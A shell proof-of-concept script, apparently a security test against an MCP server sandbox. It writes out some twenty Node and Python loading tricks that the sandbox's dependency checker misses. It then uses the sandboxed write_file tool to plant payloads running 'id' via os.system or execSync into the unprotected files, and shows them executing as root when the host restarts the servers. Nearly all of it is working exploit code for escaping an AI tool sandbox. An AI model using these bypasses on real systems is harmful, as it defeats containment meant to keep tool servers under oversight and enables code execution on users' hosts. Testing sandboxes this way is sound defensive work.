#!/bin/sh
# F3: forms of loading a file that node/python run and the follower (jsresolve_linux.go jsRefs, pyDynamic) drops
# silently: the loaded file is not protected, a call rewrites it, the host's protected program runs it at the next start.
# Each form is its own program in its own directory (a form judged "computed" protects only its directory).
set -e
D=/tmp/atk39b/f3; rm -rf $D; mkdir -p $D/ws; cd $D/ws
PY3=$(readlink -f /usr/bin/python3)
cat > $D/pol.toml <<P
version = 1
scheme  = "allowlist"
name    = "sandbox"
[audit]
path = "$D/audit.jsonl"
[allowlist]
workspace = "$D/ws"
network   = false
[[allowlist.commands]]
name   = "python3"
path   = "$PY3"
sha256 = "$(sha256sum $PY3 | cut -d' ' -f1)"
P
mk() { mkdir -p $1; printf '%s\n' "$2" > $1/$3; echo "module.exports = 1;" > $1/a.js; echo "X = 1" > $1/a.py; }
# JS forms: each loads ./a.js (or runs it)
mk j01 "require/**/('./a.js');" index.js
mk j02 "(0, require)('./a.js');" index.js
mk j03 "const r = require; r('./a.js');" index.js
mk j04 "const { createRequire } = require('module'); const req = createRequire(__filename); req('./a.js');" index.js
mk j05 "require.call(null, './a.js');" index.js
mk j06 "requ\\u0069re('./a.js');" index.js
mk j07 "require('child_process').fork(__dirname + '/a.js');" index.js
mk j08 "const { Worker } = require('worker_threads'); new Worker(require('path').join(__dirname, 'a.js'));" index.js
mk j09 "import x from /* c */ './a.js'; console.log(x);" index.mjs
mk j10 "module.require('./a.js');" index.js
mk j11 "require(\`./a.js\`);" index.js
# computed names whose "package whole" fallback does not hold what they load (.. and cwd)
mk j12/server "const path = require('path'); const name = 'a.js'; require(path.join(__dirname, '..', 'plugins', name));" index.js
mk j13/server "const name = 'a.js'; require(process.cwd() + '/j13/plugins/' + name);" index.js
for d in j12 j13; do mkdir -p $d/plugins; echo "module.exports = 1;" > $d/plugins/a.js; done
mk j15 "const name = './a.js'; module.require(name);" index.js
# a directory specifier whose package.json "main" leads out of that directory
mk j14 "require('./lib');" index.js; mkdir -p j14/lib j14/plugins; echo '{"main": "../plugins/a.js"}' > j14/lib/package.json; echo "module.exports = 1;" > j14/plugins/a.js
# Python forms: each loads ./a.py
mk p01 "import importlib.util, os
s = importlib.util.spec_from_file_location('a', os.path.join(os.path.dirname(__file__), 'a.py'))
m = importlib.util.module_from_spec(s); s.loader.exec_module(m)" main.py
mk p02 "from importlib import import_module as load
name = 'a'
load(name)" main.py
mk p03 "import os
exec(open(os.path.join(os.path.dirname(__file__), 'a.py')).read())" main.py
mk p04 "import importlib
getattr(importlib, 'import_module')('a')" main.py
mk p05 "import importlib
name = 'a'
importlib.import_module(name)" main.py
python3 - <<'PY'
import json
s={}
for d,f,c in [("j%02d"%i,"index.js","node") for i in range(1,12)]+[("j12","server/index.js","node"),("j13","server/index.js","node"),("j14","index.js","node"),("j15","index.js","node")]+[("p%02d"%i,"main.py","python3") for i in range(1,6)]:
    if d=="j09": f="index.mjs"
    s[d]={"command":c,"args":[d+"/"+f]}
open(".mcp.json","w").write(json.dumps({"mcpServers":s},indent=1))
PY
chown -R 65534:65534 $D/ws
echo "== each form run on the host now (sanity: the program really loads ./a):"
for d in j01 j02 j03 j04 j05 j06 j07 j08 j09 j10 j11 j12 j13 j14 j15; do f=$d/index.js; a=$d/a.js; [ $d = j09 ] && f=$d/index.mjs
  case $d in j12|j13) f=$d/server/index.js; a=$d/plugins/a.js;; j14) a=$d/plugins/a.js;; esac
  printf 'require("fs").writeFileSync(process.env.OUT+"/%s","loaded");\n' $d >> $a
  ( OUT=$D timeout 5 node $f >/dev/null 2>&1 || true ); printf "%s:%s " $d "$(cat $D/$d 2>/dev/null || echo NOT-LOADED)"; rm -f $D/$d
  echo "module.exports = 1;" > $a; done; echo
for d in p01 p02 p03 p04 p05; do
  printf 'open("%s/%s","w").write("loaded")\n' $D $d >> $d/a.py
  ( cd $d && timeout 5 python3 main.py >/dev/null 2>&1 || true ); printf "%s:%s " $d "$(cat $D/$d 2>/dev/null || echo NOT-LOADED)"; rm -f $D/$d
  echo "X = 1" > $d/a.py; done; echo
chown -R 65534:65534 $D/ws
cp /work/notes/atk39b/stdio.py $D/stdio.py
python3 - <<PY
import sys; sys.path.insert(0,'$D'); from stdio import *
s=Stdio(['/tmp/atk39b/mcpsandbox','serve','--policy','$D/pol.toml'], err='$D/serve.err')
for d in ["j%02d"%i for i in range(1,16)]+["p%02d"%i for i in range(1,6)]:
    p=d+("/a.py" if d[0]=="p" else "/plugins/a.js" if d in ("j12","j13","j14") else "/a.js")
    evil=('import os; os.system("id > /tmp/atk39b/f3/PWNED-%s")\n' % d) if d[0]=="p" else ('require("child_process").execSync("id > /tmp/atk39b/f3/PWNED-%s"); module.exports = 1;\n' % d)
    r=text(s.call('write_file',{'path':p,'content':evil})).strip().replace("\n"," ")
    print("%s write %s: %s" % (d, p, "APPLIED (fail open)" if "applied" in r and "refused" not in r.lower() else "refused/not applied: "+r[:160]))
s.close()
PY
echo "== the client's next start of each server (as the user, here root):"
for d in j01 j02 j03 j04 j05 j06 j07 j08 j09 j12 j13 j14 j15; do f=$d/index.js; [ $d = j09 ] && f=$d/index.mjs; case $d in j12|j13) f=$d/server/index.js;; esac; timeout 5 node $f >/dev/null 2>&1 || true; done
for d in p01 p02 p03 p04; do (cd $d && timeout 5 python3 main.py >/dev/null 2>&1 || true); done
sleep 1; for f in $D/PWNED-*; do echo "$(basename $f): $(cat $f)"; done
